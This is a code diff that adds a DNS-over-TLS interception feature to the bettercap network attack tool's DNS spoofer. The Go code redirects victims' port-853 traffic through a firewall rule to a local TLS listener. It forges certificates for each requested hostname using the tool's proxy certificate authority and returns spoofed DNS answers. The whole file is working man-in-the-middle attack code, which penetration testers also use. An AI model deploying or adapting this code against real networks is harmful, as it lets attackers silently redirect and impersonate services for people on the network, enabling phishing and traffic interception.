@@ -0,0 +1,226 @@
+package modules
+
+import (
+	"bufio"
+	"crypto/tls"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"strconv"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/firewall"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+	btls "github.com/bettercap/bettercap/tls"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+const (
+	// DNS-over-TLS port of RFC 7858
+	dnsDoTPort = 853
+	// how long an idle DNS-over-TLS connection is kept open
+	dnsDoTIdleTimeout = 10 * time.Second
+)
+
+// clientName returns the endpoint of the address if known.
+func (s *DNSSpoofer) clientName(addr string) string {
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		host = addr
+	}
+	if e := s.Session.Lan.GetByIp(host); e != nil {
+		return e.String()
+	}
+	return host
+}
+
+// answerRaw decodes the query received over transport, reply is the
+// serialized spoofed reply or nil if the query is not spoofed.
+func (s *DNSSpoofer) answerRaw(raw []byte, transport string, from string) (req *layers.DNS, reply []byte, err error) {
+	req = &layers.DNS{}
+	if err = req.DecodeFromBytes(raw, gopacket.NilDecodeFeedback); err != nil {
+		return nil, nil, err
+	} else if req.QR || req.OpCode != layers.DNSOpCodeQuery || len(req.Questions) == 0 || len(req.Answers) > 0 {
+		return nil, nil, fmt.Errorf("not a DNS query")
+	}
+
+	spoofed, domain, redirect := s.spoofedReply(req)
+	if spoofed == nil {
+		return req, nil, nil
+	} else if err, reply = packets.Serialize(spoofed); err != nil {
+		return nil, nil, err
+	}
+
+	s.logSpoofed(transport, domain, redirect, s.clientName(from))
+	return req, reply, nil
+}
+
+// resolveDoT answers a DNS-over-TLS query, the ones which are not spoofed
+// are resolved with dns.spoof.nameservers if set, or fail otherwise.
+func (s *DNSSpoofer) resolveDoT(raw []byte, from string) ([]byte, error) {
+	req, reply, err := s.answerRaw(raw, "dot", from)
+	if err != nil || reply != nil {
+		return reply, err
+	} else if s.Upstreams != nil {
+		_, resp, err := s.Upstreams.Exchange(raw)
+		return resp, err
+	}
+
+	err, reply = packets.Serialize(&layers.DNS{
+		ID:           req.ID,
+		QR:           true,
+		OpCode:       layers.DNSOpCodeQuery,
+		ResponseCode: layers.DNSResponseCodeServFail,
+		QDCount:      req.QDCount,
+		Questions:    req.Questions,
+	})
+	return reply, err
+}
+
+// dotCertificate signs a certificate for the name the client asked for
+// with the https.proxy certification authority.
+func dotCertificate(ca *tls.Certificate, host string) (*tls.Certificate, error) {
+	if cert := getCachedCert(host, dnsDoTPort); cert != nil {
+		return cert, nil
+	}
+
+	log.Debug("Creating spoofed certificate for %s:%d", core.Yellow(host), dnsDoTPort)
+	cert, err := btls.SignCertificateForHost(ca, host, dnsDoTPort)
+	if err != nil {
+		return nil, err
+	}
+	setCachedCert(host, dnsDoTPort, cert)
+	return cert, nil
+}
+
+func (s *DNSSpoofer) loadDoTCertificate() (*tls.Certificate, error) {
+	err, mod := s.Session.Module("https.proxy")
+	if err != nil {
+		return nil, err
+	}
+	proxy, ok := mod.(*HttpsProxy)
+	if !ok {
+		return nil, fmt.Errorf("Unexpected https.proxy module.")
+	}
+
+	err, certFile, keyFile := proxy.caFiles()
+	if err != nil {
+		return nil, err
+	} else if err = proxy.loadOrGenerateCA(certFile, keyFile); err != nil {
+		return nil, err
+	}
+
+	ca, err := tls.LoadX509KeyPair(certFile, keyFile)
+	if err != nil {
+		return nil, err
+	}
+	return &ca, nil
+}
+
+// startDoT terminates the DNS-over-TLS connections redirected from the
+// port 853 of the interface.
+func (s *DNSSpoofer) startDoT() error {
+	ca, err := s.loadDoTCertificate()
+	if err != nil {
+		return err
+	}
+
+	address := s.Session.Interface.IpAddress
+	config := &tls.Config{
+		GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
+			host := hello.ServerName
+			if host == "" {
+				host = address
+			}
+			return dotCertificate(ca, host)
+		},
+	}
+
+	ln, err := tls.Listen("tcp", net.JoinHostPort(address, strconv.Itoa(s.dotPort)), config)
+	if err != nil {
+		return err
+	}
+
+	s.dotRedirection = firewall.NewRedirection(s.Session.Interface.Name(), "TCP", dnsDoTPort, address, s.dotPort)
+	if err := s.Session.Firewall.EnableRedirection(s.dotRedirection, true); err != nil {
+		s.dotRedirection = nil
+		ln.Close()
+		return err
+	}
+	log.Debug("Applied redirection %s", s.dotRedirection.String())
+
+	s.dotListener = ln
+	s.waitGroup.Add(1)
+	go s.dotWorker(ln)
+
+	log.Info("[%s] DNS-over-TLS spoofer started on %s.", core.Green("dns"), ln.Addr())
+	return nil
+}
+
+func (s *DNSSpoofer) stopDoT() {
+	if s.dotRedirection != nil {
+		log.Debug("Disabling redirection %s", s.dotRedirection.String())
+		if err := s.Session.Firewall.EnableRedirection(s.dotRedirection, false); err != nil {
+			log.Warning("Could not disable redirection %s: %s", s.dotRedirection.String(), err)
+		}
+		s.dotRedirection = nil
+	}
+
+	if s.dotListener != nil {
+		s.dotListener.Close()
+		s.dotListener = nil
+	}
+}
+
+// dotWorker accepts the connections until the listener is closed, the
+// wait group is incremented by the caller.
+func (s *DNSSpoofer) dotWorker(ln net.Listener) {
+	defer s.waitGroup.Done()
+
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		go s.serveDoT(conn)
+	}
+}
+
+// serveDoT answers the length prefixed queries of the connection until
+// the client closes it or stays idle.
+func (s *DNSSpoofer) serveDoT(conn net.Conn) {
+	defer conn.Close()
+
+	from := conn.RemoteAddr().String()
+	reader := bufio.NewReader(conn)
+	for s.Running() {
+		conn.SetDeadline(time.Now().Add(dnsDoTIdleTimeout))
+
+		var size uint16
+		if err := binary.Read(reader, binary.BigEndian, &size); err != nil {
+			return
+		}
+		raw := make([]byte, size)
+		if _, err := io.ReadFull(reader, raw); err != nil {
+			return
+		}
+
+		reply, err := s.resolveDoT(raw, from)
+		if err != nil {
+			log.Debug("Could not answer DNS-over-TLS query from %s: %s", from, err)
+			return
+		}
+
+		out := make([]byte, 2+len(reply))
+		binary.BigEndian.PutUint16(out, uint16(len(reply)))
+		copy(out[2:], reply)
+		if _, err := conn.Write(out); err != nil {
+			return
+		}
+	}
+}